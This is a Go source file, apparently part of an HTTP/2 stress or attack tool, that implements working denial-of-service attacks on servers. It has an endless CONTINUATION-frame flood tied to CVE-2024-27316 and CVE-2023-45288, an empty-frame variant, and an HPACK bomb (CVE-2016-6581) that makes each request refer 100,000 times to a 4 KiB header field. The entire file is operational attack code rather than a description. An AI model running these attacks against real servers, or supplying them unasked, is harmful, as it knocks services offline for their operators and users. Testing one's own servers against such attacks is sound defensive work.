package attack

import (
	"bytes"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frameSize is the greatest that every server takes (RFC 9113 section 4.2).
const frameSize = 16 << 10

// headerAttacks are header blocks that cost the server memory or time.
func headerAttacks() []Attack {
	return []Attack{
		{Name: "h2-continuation", What: "a header block without end, Huffman-coded (CVE-2024-27316, CVE-2023-45288)", run: continuation(huffman())},
		{Name: "h2-continuation-empty", What: "a header block of empty CONTINUATION frames without end", run: continuation(nil)},
		{Name: "h2-hpack-bomb", What: "100,000 references to a field of 4 KiB in each request (CVE-2016-6581)", run: bomb},
	}
}

// huffman returns fields that neither use nor change the dynamic table, in one frame.
func huffman() []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for {
		before := block.Len()
		e.WriteField(hpack.HeaderField{Name: "x-field", Value: strings.Repeat("a", 1000), Sensitive: true}) //nolint:errcheck // a buffer
		if block.Len() > frameSize {
			return block.Bytes()[:before]
		}
	}
}

func continuation(fragment []byte) func(*session) error {
	return func(s *session) error {
		h, err := s.begin(true)
		if err != nil {
			return err
		}
		id, err := h.open()
		if err != nil {
			return err
		}
		param := http2.HeadersFrameParam{StreamID: id, BlockFragment: request(get, h.target.Small), EndStream: true}
		if err := h.fr.WriteHeaders(param); err != nil {
			return h.why(err)
		}
		return h.endless(func() error { return h.fr.WriteContinuation(id, false, fragment) })
	}
}

// endless is pump where nothing may come between two frames, not even an acknowledgement.
func (h *h2) endless(unit func() error) error {
	for {
		if err := unit(); err != nil {
			return h.why(err)
		}
		h.units++
		if h.w.Buffered() < batch {
			continue
		}
		if err := h.w.Flush(); err != nil {
			return h.why(err)
		}
	}
}

// bombFrames make 100,000 references.
const bombFrames = 7

// bomb stores a field that fills the dynamic table, and refers to it with one octet each.
func bomb(s *session) error {
	h, err := s.begin(true)
	if err != nil {
		return err
	}
	const newest = 0x80 | 62 // the dynamic table's last entry (RFC 7541 section 2.3.3)
	first := append(request(get, h.target.Small), 0x40)
	first = appendString(appendString(first, "x"), strings.Repeat("a", 4000))
	first = append(first, bytes.Repeat([]byte{newest}, frameSize-len(first))...)
	more := bytes.Repeat([]byte{newest}, frameSize)
	return h.pump(func() error {
		id, err := h.open()
		if err != nil {
			return err
		}
		if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: true}); err != nil {
			return err
		}
		for i := 1; i < bombFrames; i++ {
			if err := h.fr.WriteContinuation(id, i == bombFrames-1, more); err != nil {
				return err
			}
		}
		return nil
	})
}
